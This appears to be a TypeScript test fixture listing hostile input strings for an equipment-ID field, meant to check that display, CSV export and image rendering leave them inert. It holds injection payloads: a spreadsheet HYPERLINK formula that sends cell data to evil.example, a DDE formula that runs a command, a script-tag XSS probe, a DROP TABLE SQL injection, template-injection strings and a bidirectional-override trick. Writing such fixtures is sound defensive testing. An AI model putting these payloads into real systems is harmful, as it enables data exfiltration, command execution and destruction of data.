/**
 * Texts real customers and attackers put into EquipmentID: every one must reach a screen, a CSV and a picture as it is
 * and do nothing there.
 */
export const hostileTexts: readonly [string, ...string[]] = [
  '<!channel> free diesel',
  '<@U012AB3CD> *bold* _it_ ~no~ `code`',
  '=HYPERLINK("http://evil.example/?c="&A1,"Click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '[click me](http://evil.example) <at>everyone</at>',
  '<script>alert(1)</script>',
  "Robert'); DROP TABLE assets;--",
  'Bagger 🚜🇩🇪 👩‍🔧',
  'حفارة رقم ٧ \u202eDAL-7',
  'מחפר 12 / خط',
  'Z̸a̸l̸g̸o̸ crane',
  '  7  #12  Pelle de M. Müller-Lüdenscheidt  ',
  'vacio',
  'x'.repeat(255),
  '&amp; &lt;b&gt; ]]> %00 \\u0000 {{7*7}}',
  '-2+3',
]
